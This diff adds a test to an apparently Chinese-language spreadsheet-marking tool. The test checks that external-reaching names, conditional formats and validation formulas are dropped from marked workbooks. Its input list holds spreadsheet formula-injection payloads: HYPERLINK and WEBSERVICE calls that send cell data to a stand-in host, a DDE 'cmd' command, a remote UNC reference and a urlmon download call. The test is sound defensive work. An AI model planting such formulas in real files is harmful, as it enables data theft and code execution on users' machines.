@@ -285,3 +285,41 @@ def test_where_the_file_has_no_such_column_the_one_it_depends_on_is_marked(
     copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
     found = marked_cells(copy.path)
     assert list(found) == [place("CF_CFLB", 3, header)] and "罚款金额" in found[place("CF_CFLB", 3, header)]
+
+
+OUTSIDE = [
+    'HYPERLINK("http://a.example/?"&A1)',
+    'WEBSERVICE("http://a.example/"&A1)',
+    "cmd|'/c calc'!A1",
+    "[1]别处!$A$1",
+    "'\\\\a.example\\x\\[b.xlsx]S'!A1",
+    'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
+]
+
+
+@pytest.mark.parametrize("formula", OUTSIDE)
+def test_names_formats_and_lists_that_reach_out_do_not_come_back(tmp_path: Path, formula: str) -> None:
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    source = own_workbook(tmp_path / "own.xlsx")
+    workbook = openpyxl.load_workbook(source)
+    sheet = workbook["处罚"]
+    for name, text in (("bad", formula), ("good", "处罚!$A$1:$A$9")):
+        workbook.defined_names[name] = DefinedName(name, attr_text=text)
+        sheet.defined_names[f"{name}_here"] = DefinedName(f"{name}_here", attr_text=text)
+    workbook.defined_names["macro"] = DefinedName("macro", attr_text="处罚!$A$1", xlm=True, function=True)
+    for cell, text in (("A2", formula), ("A3", '$A$1="x"')):
+        sheet.conditional_formatting.add(cell, FormulaRule(formula=[text]))
+        sheet.add_data_validation(DataValidation(type="custom", formula1=text, sqref=cell))
+    workbook.save(source)
+    mark(source, [MarkedProblem(4, 0, "required", "必填", "")], out := tmp_path / "marked.xlsx")
+    back = openpyxl.load_workbook(out)
+    assert set(back.defined_names) == {"good"}
+    assert set(back["处罚"].defined_names) >= {"good_here"}
+    assert "bad_here" not in back["处罚"].defined_names
+    kept = [rule.formula for each in back["处罚"].conditional_formatting for rule in each.rules]
+    assert ['$A$1="x"'] in kept and [formula] not in kept
+    lists = [each.formula1 for each in back["处罚"].data_validations.dataValidation]
+    assert '$A$1="x"' in lists and formula not in lists
